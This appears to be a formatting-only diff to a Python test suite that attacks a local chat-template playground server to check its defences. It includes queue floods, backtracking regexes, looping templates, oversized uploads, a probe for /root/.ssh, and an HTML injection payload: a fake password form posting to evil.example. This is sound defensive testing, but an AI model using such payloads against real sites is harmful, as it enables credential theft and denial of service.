@@ -16,8 +16,8 @@ from __future__ import annotations
 
 import json
 import math
-import re
 import os
+import re
 import shutil
 import socket
 import subprocess
@@ -44,18 +44,34 @@ VICTIM_PATIENCE = 15.0
 # Longest the suite waits for one attacking request (seconds); "before" figures past it read "> N s".
 PATIENCE = 60.0
 
-QWEN3 = json.loads((ROOT / "templates" / "qwen3.json").read_text(encoding="utf-8"))["response_template"]
+QWEN3 = json.loads((ROOT / "templates" / "qwen3.json").read_text(encoding="utf-8"))[
+    "response_template"
+]
 QWEN3_TEXT = json.dumps(QWEN3, indent=2)
 SAMPLE = next(sample for sample in load_samples() if sample.id == "qwen3/text-then-tool-calls")
 LOOPING_JINJA = "{% for i in range(100000) %}{% for j in range(100000) %}{% endfor %}{% endfor %}"
-BACKTRACKING = json.dumps({"start_anchor": "<s>", "fields": {"thing": {"open_pattern": "(a|aa)+$", "close": "</x>"}, "content": {}}})
-LOOKAHEAD = json.dumps({"start_anchor": "<s>", "fields": {
-    "x": {"open_pattern": "<x>(?=(?:(?:a|aa)+d)?)", "close": "</x>", "repeats": True}, "content": {}}})
+BACKTRACKING = json.dumps(
+    {
+        "start_anchor": "<s>",
+        "fields": {"thing": {"open_pattern": "(a|aa)+$", "close": "</x>"}, "content": {}},
+    }
+)
+LOOKAHEAD = json.dumps(
+    {
+        "start_anchor": "<s>",
+        "fields": {
+            "x": {"open_pattern": "<x>(?=(?:(?:a|aa)+d)?)", "close": "</x>", "repeats": True},
+            "content": {},
+        },
+    }
+)
 LOOKAHEAD_GENERATION = ("<x>" + "a" * 28 + "c</x>") * 40
 OBJECT_CONTENT = json.dumps({"start_anchor": "<s>", "fields": {"content": {"content": {"x": 1}}}})
-OVERLAY = ('<div style="position:fixed;top:0;left:0;width:100%;height:100%;background:#fff;z-index:9999">'
-           '<form action="//evil.example/steal"><input name="password"><button>Log in</button></form>'
-           '<img src="//evil.example/pixel.png"></div>')
+OVERLAY = (
+    '<div style="position:fixed;top:0;left:0;width:100%;height:100%;background:#fff;z-index:9999">'
+    '<form action="//evil.example/steal"><input name="password"><button>Log in</button></form>'
+    '<img src="//evil.example/pixel.png"></div>'
+)
 
 
 @dataclass
@@ -88,11 +104,23 @@ def start_server(root: Path = ROOT, limits: dict | None = None, scratch: Path | 
     """app.py of checkout `root` on loopback, with PLAYGROUND_LIMITS `limits`; waits until it answers."""
     port = free_port()
     scratch = scratch or Path(tempfile.mkdtemp(prefix="attack-models-"))
-    env = {**os.environ, "GRADIO_SERVER_NAME": "127.0.0.1", "GRADIO_SERVER_PORT": str(port),
-           "GRADIO_ANALYTICS_ENABLED": "False", "HF_HUB_OFFLINE": "1", "PYTHONPATH": str(root)}
+    env = {
+        **os.environ,
+        "GRADIO_SERVER_NAME": "127.0.0.1",
+        "GRADIO_SERVER_PORT": str(port),
+        "GRADIO_ANALYTICS_ENABLED": "False",
+        "HF_HUB_OFFLINE": "1",
+        "PYTHONPATH": str(root),
+    }
     if limits:
         env["PLAYGROUND_LIMITS"] = json.dumps(limits)
-    process = subprocess.Popen([sys.executable, "app.py"], cwd=root, env=env, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+    process = subprocess.Popen(
+        [sys.executable, "app.py"],
+        cwd=root,
+        env=env,
+        stdout=subprocess.DEVNULL,
+        stderr=subprocess.DEVNULL,
+    )
     url = f"http://127.0.0.1:{port}/"
     deadline = time.monotonic() + 180
     while time.monotonic() < deadline:
@@ -114,8 +142,17 @@ def wait_for_spare(run: Run, timeout: float = 180) -> bool:
     spare as playground.authoring.chat_template_check.)"""
     ends = time.monotonic() + timeout
     while time.monotonic() < ends:
-        spares = [p for p in psutil.Process(run.process.pid).children()
-                  if any(name in " ".join(p.cmdline()) for name in ("playground.server.workers", "playground.authoring.chat_template_check"))]
+        spares = [
+            p
+            for p in psutil.Process(run.process.pid).children()
+            if any(
+                name in " ".join(p.cmdline())
+                for name in (
+                    "playground.server.workers",
+                    "playground.authoring.chat_template_check",
+                )
+            )
+        ]
         # Importing, it runs (or waits to run); done, it sleeps on its stdin.
         if spares and all(p.cpu_times().user > 1 for p in spares) and _asleep(spares):
             return True
@@ -132,7 +169,11 @@ def _asleep(processes: list, looks: int = 10) -> bool:
 
 
 def stop_server(run: Run) -> None:
-    children = psutil.Process(run.process.pid).children(recursive=True) if run.process.poll() is None else []
+    children = (
+        psutil.Process(run.process.pid).children(recursive=True)
+        if run.process.poll() is None
+        else []
+    )
     run.process.terminate()
     try:
         run.process.wait(timeout=15)
@@ -168,11 +209,16 @@ def join(run: Run, endpoint: str, data: list, address: str = ATTACKER) -> tuple[
     return 200, joined.json()["event_id"]
 
 
-def result_of(run: Run, endpoint: str, event_id: str, address: str = ATTACKER, timeout: float = PATIENCE) -> object:
+def result_of(
+    run: Run, endpoint: str, event_id: str, address: str = ATTACKER, timeout: float = PATIENCE
+) -> object:
     """The result of a joined call (a generator's last update), or None when it did not come within `timeout`."""
     result: object = None
     try:
-        with client(run, address, timeout) as http, http.stream("GET", f"/gradio_api/call/{endpoint}/{event_id}") as stream:
+        with (
+            client(run, address, timeout) as http,
+            http.stream("GET", f"/gradio_api/call/{endpoint}/{event_id}") as stream,
+        ):
             kind = ""
             for line in stream.iter_lines():
                 if line.startswith("event:"):
@@ -181,7 +227,9 @@ def result_of(run: Run, endpoint: str, event_id: str, address: str = ATTACKER, t
                     payload = json.loads(line[5:]) if line[5:].strip() not in ("", "null") else None
                     if kind == "error":
                         return {"error": f"the listener failed: {payload}"}
-                    if isinstance(payload, list) and payload:  # a generator's last update is its result
+                    if (
+                        isinstance(payload, list) and payload
+                    ):  # a generator's last update is its result
                         result = payload[-1]
                     if kind == "complete":
                         break
@@ -190,7 +238,9 @@ def result_of(run: Run, endpoint: str, event_id: str, address: str = ATTACKER, t
     return result
 
 
-def call(run: Run, endpoint: str, data: list, address: str = ATTACKER, timeout: float = PATIENCE) -> tuple[int, object, float]:
+def call(
+    run: Run, endpoint: str, data: list, address: str = ATTACKER, timeout: float = PATIENCE
+) -> tuple[int, object, float]:
     """POST /gradio_api/call/<endpoint> and read its result: (HTTP status of the join, the result or
     the refusal's detail, seconds until the result, None when it did not come within `timeout`)."""
     started = time.perf_counter()
@@ -203,7 +253,9 @@ def call(run: Run, endpoint: str, data: list, address: str = ATTACKER, timeout: 
 
 def parse_seconds(run: Run, address: str = VICTIM) -> float | None:
     """One /parse of the default sample: its seconds, or None when it failed or was refused."""
-    status, result, seconds = call(run, "parse", [QWEN3_TEXT, SAMPLE.prefix, SAMPLE.generation, ""], address, VICTIM_PATIENCE)
+    status, result, seconds = call(
+        run, "parse", [QWEN3_TEXT, SAMPLE.prefix, SAMPLE.generation, ""], address, VICTIM_PATIENCE
+    )
     if status != 200 or not isinstance(result, dict) or result.get("message") != SAMPLE.expected:
         return None
     return seconds
@@ -248,8 +300,12 @@ def under_attack(run: Run, name: str, attack, lead: float = 1.0) -> Row:
     """Start `attack(run)` in a thread, let it run `lead` seconds, then time the victim's parses
     (from a process of its own)."""
     victim_process = subprocess.Popen(
-        [sys.executable, "-m", "tests.attacks", run.url, str(PARSES)], cwd=ROOT, stdin=subprocess.PIPE, stdout=subprocess.PIPE,
-        text=True, env={**os.environ, "PYTHONPATH": str(ROOT)},
+        [sys.executable, "-m", "tests.attacks", run.url, str(PARSES)],
+        cwd=ROOT,
+        stdin=subprocess.PIPE,
+        stdout=subprocess.PIPE,
+        text=True,
+        env={**os.environ, "PYTHONPATH": str(ROOT)},
     )
     assert victim_process.stdout.readline().strip() == "ready"
     outcome: list[Outcome] = []
@@ -275,7 +331,12 @@ def _longest(results: list[tuple[int, object, float | None]]) -> Outcome:
     slowest = max(admitted, key=lambda r: float("inf") if r[2] is None else r[2])
     result = slowest[1]
     said = result.get("error") or result.get("status") if isinstance(result, dict) else result
-    return Outcome(slowest[2], str(said)[:300], refused, {"refusal": next((str(r[1]) for r in results if r[0] != 200), "")})
+    return Outcome(
+        slowest[2],
+        str(said)[:300],
+        refused,
+        {"refusal": next((str(r[1]) for r in results if r[0] != 200), "")},
+    )
 
 
 # -- the attacks -----------------------------------------------------------------------
@@ -287,7 +348,9 @@ def queue_flood(run: Run) -> Outcome:
     started = time.perf_counter()
 
     def sent(_) -> tuple[float, tuple[int, str]]:
-        return time.perf_counter(), join(run, "conformance", [QWEN3_TEXT, LOOPING_JINJA, "", "", ""])
+        return time.perf_counter(), join(
+            run, "conformance", [QWEN3_TEXT, LOOPING_JINJA, "", "", ""]
+        )
 
     with ThreadPoolExecutor(max_workers=33) as pool:
         joined = list(pool.map(sent, range(66)))
@@ -320,9 +383,19 @@ def _page_runs(run: Run, listener: str, values: dict, pages: int) -> Outcome:
         started = time.perf_counter()
         try:
             outputs = page.run(listener, values, timeout=PATIENCE)
-            said = next((v for o in reversed(outputs) for k, v in o.items() if v and k in ("reference", "status", "fits")), "")
+            said = next(
+                (
+                    v
+                    for o in reversed(outputs)
+                    for k, v in o.items()
+                    if v and k in ("reference", "status", "fits")
+                ),
+                "",
+            )
             said = " ".join(re.sub(r"<[^>]+>", " ", str(said)).split())
-            said = said[said.rindex("error:"):] if "error:" in said else said  # the last side that failed says why
+            said = (
+                said[said.rindex("error:") :] if "error:" in said else said
+            )  # the last side that failed says why
             return 200, said, time.perf_counter() - started
         except PageRefused as error:
             return 503, str(error), time.perf_counter() - started
@@ -339,7 +412,12 @@ def _page_runs(run: Run, listener: str, values: dict, pages: int) -> Outcome:
 
 def reference_backtracking(run: Run) -> Outcome:
     """Eight "vs transformers" comparisons whose open pattern backtracks without end in transformers' regex."""
-    values = {"template-editor": BACKTRACKING, "prefix": "<s>", "generation": "a" * 36 + "b", "tools": ""}
+    values = {
+        "template-editor": BACKTRACKING,
+        "prefix": "<s>",
+        "generation": "a" * 36 + "b",
+        "tools": "",
+    }
     return _page_runs(run, "page_compare_reference", values, 8)
 
 
@@ -353,14 +431,25 @@ def lookahead_parse(run: Run) -> Outcome:
 def _big_generation(size: int) -> str:
     call_text = '<tool_call>\n{"name": "get_weather", "arguments": {"city": "Paris", "days": 3}}\n</tool_call>\n'
     words = "The weather in Paris is mild today, with a light breeze from the west. "
-    body = "<think>\n" + words * (size // (4 * len(words))) + "\n</think>\n\n" + words * (size // (4 * len(words)))
+    body = (
+        "<think>\n"
+        + words * (size // (4 * len(words)))
+        + "\n</think>\n\n"
+        + words * (size // (4 * len(words)))
+    )
     return body + call_text * max(1, (size - len(body)) // len(call_text))
 
 
 def big_replay(run: Run, size: int = 792_000) -> Outcome:
     """A harmless /replay of a big paste, a character at a time."""
-    status, result, seconds = call(run, "replay", [QWEN3_TEXT, "", _big_generation(size), "", "chars:1"], timeout=PATIENCE * 5)
-    said = (result.get("error") or f"{result.get('chunks')} chunks; {result['stream_check']['label']}") if isinstance(result, dict) else str(result)
+    status, result, seconds = call(
+        run, "replay", [QWEN3_TEXT, "", _big_generation(size), "", "chars:1"], timeout=PATIENCE * 5
+    )
+    said = (
+        (result.get("error") or f"{result.get('chunks')} chunks; {result['stream_check']['label']}")
+        if isinstance(result, dict)
+        else str(result)
+    )
     return Outcome(seconds, said[:300], 0 if status == 200 else 1)
 
 
@@ -371,7 +460,9 @@ def _generate(user: str, model: str = "") -> list:
 
 def long_user_message(run: Run) -> Outcome:
     """Generate live with a 64,000-character user message."""
-    status, result, seconds = call(run, "generate", _generate("word " * 12_800), timeout=PATIENCE * 3)
+    status, result, seconds = call(
+        run, "generate", _generate("word " * 12_800), timeout=PATIENCE * 3
+    )
     said = result.get("error") or "generated" if isinstance(result, dict) else str(result)
     return Outcome(seconds, str(said)[:300], 0 if status == 200 else 1)
 
@@ -388,9 +479,17 @@ def model_copy(run: Run, name: str, chat_template: str | None = None) -> Path:
 
 def looping_chat_template(run: Run) -> Outcome:
     """Generate live with a model whose chat template loops."""
-    folder = model_copy(run, "looping", "{% for i in range(100000) %}{% for j in range(100000) %}{% endfor %}{% endfor %}")
+    folder = model_copy(
+        run,
+        "looping",
+        "{% for i in range(100000) %}{% for j in range(100000) %}{% endfor %}{% endfor %}",
+    )
     status, result, seconds = call(run, "generate", _generate("Hi", str(folder)), timeout=PATIENCE)
-    said = (result.get("error") or "generated") if isinstance(result, dict) else f"no answer ({result})"
+    said = (
+        (result.get("error") or "generated")
+        if isinstance(result, dict)
+        else f"no answer ({result})"
+    )
     return Outcome(seconds, str(said)[:300], 0 if status == 200 else 1)
 
 
@@ -404,7 +503,10 @@ def stopped_loads(run: Run) -> Outcome:
     for number in range(8):
         page = _page(run)
         try:
-            future = page.start("page_generate", {"model-name": str(model_copy(run, f"copy-{number}")), "user": "Hi"})
+            future = page.start(
+                "page_generate",
+                {"model-name": str(model_copy(run, f"copy-{number}")), "user": "Hi"},
+            )
             time.sleep(0.3)
             page.run("page_request_stop")
             outputs = future.result(timeout=PATIENCE)
@@ -415,8 +517,11 @@ def stopped_loads(run: Run) -> Outcome:
             page.close()
     time.sleep(15)  # the loads that went on end meanwhile
     grown = memory_mb(run)[0] - before
-    return Outcome(time.perf_counter() - started, f"{said[:160]} (server memory {grown:+.0f} MB after the loads ended)",
-                   details={"grown_mb": grown})
+    return Outcome(
+        time.perf_counter() - started,
+        f"{said[:160]} (server memory {grown:+.0f} MB after the loads ended)",
+        details={"grown_mb": grown},
+    )
 
 
 def big_upload(run: Run, megabytes: int = 200) -> Outcome:
@@ -425,11 +530,15 @@ def big_upload(run: Run, megabytes: int = 200) -> Outcome:
     blob = b"x" * (megabytes * 1_000_000)
     try:
         with client(run, ATTACKER) as http:
-            answer = http.post("/gradio_api/upload", files={"files": ("big.json", blob, "application/json")})
+            answer = http.post(
+                "/gradio_api/upload", files={"files": ("big.json", blob, "application/json")}
+            )
         said, status = answer.text[:200], answer.status_code
     except httpx.HTTPError as error:
         said, status = f"connection closed ({type(error).__name__})", 413
-    return Outcome(time.perf_counter() - started, f"HTTP {status}: {said}", 0 if status == 200 else 1)
+    return Outcome(
+        time.perf_counter() - started, f"HTTP {status}: {said}", 0 if status == 200 else 1
+    )
 
 
 def many_sessions(run: Run, sessions: int = 30, size: int = 1_000_000) -> Outcome:
@@ -444,16 +553,28 @@ def many_sessions(run: Run, sessions: int = 30, size: int = 1_000_000) -> Outcom
         page = _page(run)
         pages.append(page)
         try:
-            outputs = page.run("page_replay_step", {"generation": generation, "prefix": "", "template-editor": QWEN3_TEXT,
-                                                    "chunking": "chars", "chunk-size": 1000})
+            outputs = page.run(
+                "page_replay_step",
+                {
+                    "generation": generation,
+                    "prefix": "",
+                    "template-editor": QWEN3_TEXT,
+                    "chunking": "chars",
+                    "chunk-size": 1000,
+                },
+            )
             said = outputs[-1].get("status") or said
         except PageFailure as error:
             said, refused = str(error), refused + 1
     grown = memory_mb(run)[0] - before
     for page in pages:
         page.close()
-    return Outcome(time.perf_counter() - started, f"server memory {grown:+.0f} MB with {sessions} sessions open",
-                   refused, {"grown_mb": grown})
+    return Outcome(
+        time.perf_counter() - started,
+        f"server memory {grown:+.0f} MB with {sessions} sessions open",
+        refused,
+        {"grown_mb": grown},
+    )
 
 
 def folder_probe(run: Run) -> Outcome:
@@ -465,10 +586,25 @@ def folder_probe(run: Run) -> Outcome:
     for folder in ("/root/.ssh", str(secret), "/root/.no-such-folder-here"):
         status, result, _ = call(run, "conformance", [QWEN3_TEXT, "", folder, "", ""])
         answers[folder] = str(result.get("error") if isinstance(result, dict) else result)
-    texts = {text.replace(folder, "X").replace("(a server path)", "X") for folder, text in answers.items()}
-    read = "SECRET" in json.dumps(answers) or "situations" in json.dumps(answers) or any("passed" in t for t in texts)
-    said = "the same answer for all three" if len(texts) == 1 else f"{len(texts)} different answers: {sorted(texts)}"[:300]
-    return Outcome(time.perf_counter() - started, said, details={"answers": answers, "distinct": len(texts), "read": read})
+    texts = {
+        text.replace(folder, "X").replace("(a server path)", "X")
+        for folder, text in answers.items()
+    }
+    read = (
+        "SECRET" in json.dumps(answers)
+        or "situations" in json.dumps(answers)
+        or any("passed" in t for t in texts)
+    )
+    said = (
+        "the same answer for all three"
+        if len(texts) == 1
+        else f"{len(texts)} different answers: {sorted(texts)}"[:300]
+    )
+    return Outcome(
+        time.perf_counter() - started,
+        said,
+        details={"answers": answers, "distinct": len(texts), "read": read},
+    )
 
 
 def chat_injection(run: Run) -> Outcome:
@@ -478,12 +614,18 @@ def chat_injection(run: Run) -> Outcome:
     page = _page(run)
     started = time.perf_counter()
     try:
-        outputs = page.open({"sample": "qwen3/text-then-tool-calls", "state": encode_state({"generation": OVERLAY})})
+        outputs = page.open(
+            {"sample": "qwen3/text-then-tool-calls", "state": encode_state({"generation": OVERLAY})}
+        )
         chat = json.dumps(outputs[-1].get("chat"))
     finally:
         page.close()
     raw = "<div style" in chat or "<img src" in chat or "<form" in chat
-    return Outcome(time.perf_counter() - started, "HTML drawn as markup" if raw else "shown as text", details={"raw": raw})
+    return Outcome(
+        time.perf_counter() - started,
+        "HTML drawn as markup" if raw else "shown as text",
+        details={"raw": raw},
+    )
 
 
 def hygiene(run: Run) -> Outcome:
@@ -500,7 +642,9 @@ def hygiene(run: Run) -> Outcome:
     finally:
         page.close()
     status, result, seconds = call(run, "export", [QWEN3_TEXT, "{" + " " * 50_000_000 + "}"])
-    said["50 MB tokenizer_config"] = f"HTTP {status}: {(result.get('error') if isinstance(result, dict) else result)}"[:200]
+    said["50 MB tokenizer_config"] = (
+        f"HTTP {status}: {(result.get('error') if isinstance(result, dict) else result)}"[:200]
+    )
     return Outcome(time.perf_counter() - started, json.dumps(said)[:600], details={"said": said})
 
 
